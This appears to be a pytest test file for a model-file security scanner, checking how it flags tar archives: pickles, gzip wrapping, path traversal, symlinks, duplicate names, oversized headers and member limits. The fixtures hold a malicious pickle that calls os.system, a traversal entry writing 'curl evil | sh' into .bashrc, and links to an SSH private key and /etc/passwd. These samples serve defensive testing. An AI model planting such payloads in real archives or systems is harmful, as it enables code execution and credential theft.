"""Tar archives written by tarfile, and hostile headers built byte by byte."""

from __future__ import annotations

import gzip
import io
import tarfile
import time
from pathlib import Path

import pytest

from modelshield.core.findings import Severity
from tests.scanner.containers.conftest import PickleCall, rule_ids, scan

PAYLOAD = (
    b"\x80\x04\x95\x1f\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x94\x93\x94"
    b"\x8c\x02id\x94\x85\x94R\x94."
)


def _tar(
    members: list[tarfile.TarInfo | tuple[str, bytes]], fmt: int = tarfile.PAX_FORMAT
) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as t:
        for m in members:
            if isinstance(m, tarfile.TarInfo):
                t.addfile(m)
            else:
                info = tarfile.TarInfo(m[0])
                info.size = len(m[1])
                t.addfile(info, io.BytesIO(m[1]))
    return buf.getvalue()


def _link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info


def _header(name: bytes, size: int) -> bytes:
    """A ustar header with any declared size (octal, or base-256 when it does not fit)."""
    block = bytearray(512)
    block[: len(name)] = name
    block[100:108] = b"0000644\x00"
    block[108:124] = b"0000000\x000000000\x00"
    if size < 8**11:
        block[124:136] = f"{size:011o}\x00".encode()
    else:
        block[124:136] = b"\x80" + size.to_bytes(11, "big")
    block[136:148] = b"00000000000\x00"
    block[156:157] = b"0"
    block[257:265] = b"ustar\x0000"
    block[148:156] = b"        "
    block[148:156] = f"{sum(block):06o}\x00 ".encode()
    return bytes(block)


@pytest.mark.parametrize("fmt", [tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT])
def test_tar_of_pickles(tmp_path: Path, pickle_calls: list[PickleCall], fmt: int) -> None:
    path = tmp_path / "m.tar"
    path.write_bytes(_tar([("model/weights.bin", PAYLOAD), ("model/readme.md", b"# hi\n")], fmt))
    result = scan(path)
    assert rule_ids(result) == []
    assert result.format == "tar"
    assert [(c.location.members, c.data) for c in pickle_calls] == [
        (("model/weights.bin",), PAYLOAD)
    ]


def test_tar_gz_is_opened_through_the_stream(
    tmp_path: Path, pickle_calls: list[PickleCall]
) -> None:
    path = tmp_path / "m.tar.gz"
    path.write_bytes(gzip.compress(_tar([("a/data.pkl", PAYLOAD)])))
    result = scan(path)
    assert rule_ids(result) == []
    assert result.formats_seen[:2] == ("gzip", "tar")
    assert [c.location.members for c in pickle_calls] == [("<gzip>", "a/data.pkl")]


def test_traversal_and_links(tmp_path: Path, pickle_calls: list[PickleCall]) -> None:
    path = tmp_path / "evil.tar"
    path.write_bytes(
        _tar(
            [
                ("../../home/user/.bashrc", b"curl evil | sh\n"),
                _link("model/key", "/home/user/.ssh/id_rsa"),
                _link("model/alias", "weights.bin"),
                _link("model/hard", "../../etc/passwd", tarfile.LNKTYPE),
            ]
        )
    )
    result = scan(path)
    assert rule_ids(result) == ["ARCHIVE-PATH-TRAVERSAL"] + ["ARCHIVE-SYMLINK"] * 3
    links = {
        f.evidence["target"]: (f.severity, f.evidence["kind"])
        for f in result.findings
        if f.rule_id == "ARCHIVE-SYMLINK"
    }
    assert links == {
        "/home/user/.ssh/id_rsa": (Severity.HIGH, "symbolic link"),
        "weights.bin": (Severity.MEDIUM, "symbolic link"),
        "../../etc/passwd": (Severity.HIGH, "hard link"),
    }


def test_duplicate_member_names(tmp_path: Path, pickle_calls: list[PickleCall]) -> None:
    path = tmp_path / "d.tar"
    path.write_bytes(_tar([("data.pkl", b"benign"), ("data.pkl", PAYLOAD)]))
    assert rule_ids(scan(path)) == ["ARCHIVE-DUPLICATE-NAME"]
    assert [c.location.members for c in pickle_calls] == [("data.pkl (copy 2)",)]


def test_member_claiming_a_terabyte(tmp_path: Path, pickle_calls: list[PickleCall]) -> None:
    path = tmp_path / "tb.tar"
    path.write_bytes(
        _header(b"small.pkl", len(PAYLOAD))
        + PAYLOAD.ljust(512, b"\0")
        + _header(b"huge.bin", 1 << 40)
        + PAYLOAD
        + bytes(2000)
    )
    started = time.monotonic()
    result = scan(path)
    assert time.monotonic() - started < 2
    assert "ARCHIVE-MALFORMED" in rule_ids(result)
    claim = next(f for f in result.findings if "claims" in f.message)
    assert str(1 << 40) in claim.message
    # Both members' bytes present were analysed; nothing allocated a terabyte.
    assert [c.location.members for c in pickle_calls] == [("small.pkl",), ("huge.bin",)]


def test_hundred_thousand_entries_trip_the_member_limit(tmp_path: Path) -> None:
    empty = bytearray(_header(b"f", 0))
    blocks = bytearray()
    for i in range(100_001):
        block = bytearray(empty)
        name = b"f%d" % i
        block[: len(name)] = name
        block[148:156] = b"        "
        block[148:156] = b"%06o\x00 " % sum(block)
        blocks += block
    path = tmp_path / "many.tar"
    path.write_bytes(bytes(blocks) + bytes(1024))
    started = time.monotonic()
    result = scan(path)
    assert time.monotonic() - started < 30
    assert rule_ids(result) == ["SCAN-LIMIT"]
    assert result.findings[0].evidence == {"limit": "max_members"}


def test_truncated_tar_is_malformed_not_a_crash(tmp_path: Path) -> None:
    data = _tar([("a.bin", b"x" * 5000)])
    path = tmp_path / "cut.tar"
    path.write_bytes(data[:1200])
    result = scan(path)
    assert result.errors == ()
    assert "ARCHIVE-MALFORMED" in rule_ids(result)
